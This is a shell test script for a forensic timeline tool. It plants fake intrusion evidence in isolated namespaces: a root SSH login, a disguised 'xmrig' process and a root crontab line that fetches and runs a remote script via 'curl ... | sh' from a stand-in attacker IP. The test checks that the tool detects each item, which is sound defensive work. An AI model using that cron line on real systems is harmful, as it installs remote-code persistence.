#!/bin/sh
# timeline-live.sh - `timeline` on the live root "/" inside namespaces of the test's own:
# a tmpfs over /var/log holds an auth.log with the attacker's login, a tmpfs over
# /var/spool a cron downloader written a minute later, and a process named like a miner
# (a copy of sleep) runs in the test's PID namespace. The timeline must put the process
# start among the events and name the login as the initial access. Nothing of the
# machine is changed (tmpfs mounts in a private mount namespace); nothing leaves the
# network namespace.
set -eu
MT=${MINETRACE:-build/minetrace}
fail() { echo "FAIL timeline-live: $*"; exit 1; }
MT=$(cd "$(dirname "$MT")" && pwd)/$(basename "$MT")
# /tmp, /var/tmp and /dev/shm are covered by a tmpfs in the namespace, and the checkout
# (with the binary) may live under one of them: the work directory, with a copy of the
# binary, goes to /run
work=$(mktemp -d /run/mt-timeline-live.XXXXXX)
trap '[ -n "${KEEP:-}" ] || rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP
cp /bin/sleep "$work/xmrig"
cp "$MT" "$work/minetrace"
MT=$work/minetrace

rc=0
unshare -n -p -f -m --mount-proc sh -eu -c '
	work=$1 mt=$2
	mount --make-rprivate /
	mount -t tmpfs tmpfs /var/log
	mount -t tmpfs tmpfs /var/spool
	# what other tests left in the temporary directories is not this test'"'"'s evidence
	for d in /tmp /var/tmp /dev/shm; do mount -t tmpfs tmpfs $d; done
	mkdir -p /var/spool/cron/crontabs
	now=$(date +%s)
	login=$((now - 120))
	stamp=$(date -u -d @$login +%Y-%m-%dT%H:%M:%S.000000+00:00)
	printf "%s h sshd[4242]: Accepted password for root from 198.51.100.77 port 55555 ssh2\n" \
		"$stamp" >/var/log/auth.log
	printf "*/5 * * * * curl -fsSL http://198.51.100.77/x.sh | sh\n" >/var/spool/cron/crontabs/root
	touch -d @$((login + 60)) /var/spool/cron/crontabs/root
	"$work/xmrig" 300 & pid=$!
	echo $pid >"$work/pid"
	sleep 0.3
	"$mt" timeline --sample 0 --format json >"$work/out.jsonl" 2>"$work/err" || echo $? >"$work/rc"
	kill $pid
' sh "$work" "$MT" || rc=$?
[ $rc -eq 0 ] || fail "namespace run exited $rc"
[ "$(cat "$work/rc" 2>/dev/null || echo 0)" = 1 ] || fail "timeline exit $(cat "$work/rc" 2>/dev/null || echo 0), expected 1"
python3 - "$work/out.jsonl" "$(cat "$work/pid")" <<'EOT' || fail "see above"
import json, sys
objs = [json.loads(l) for l in open(sys.argv[1])]
pid = int(sys.argv[2])
c = objs[-1]
assert c["type"] == "conclusion", "no conclusion"
ia = c["initial_access"]
assert ia and ia["source_ip"] == "198.51.100.77" and ia["user"] == "root", "access %r" % ia
assert "/var/spool/cron/crontabs/root" in [a["path"] for a in c["artifacts"]], c["artifacts"]
procs = [e for e in objs[:-1] if e["type"] == "event" and e["what"] == "process_start"]
mine = [e for e in procs if e["evidence"]["pid"] == pid]
assert mine, "no process_start event for pid %d: %r" % (pid, procs)
assert mine[0]["evidence"]["exe"].endswith("/xmrig"), mine[0]
print("timeline-live: ok (process start, initial access, cron artifact)")
EOT
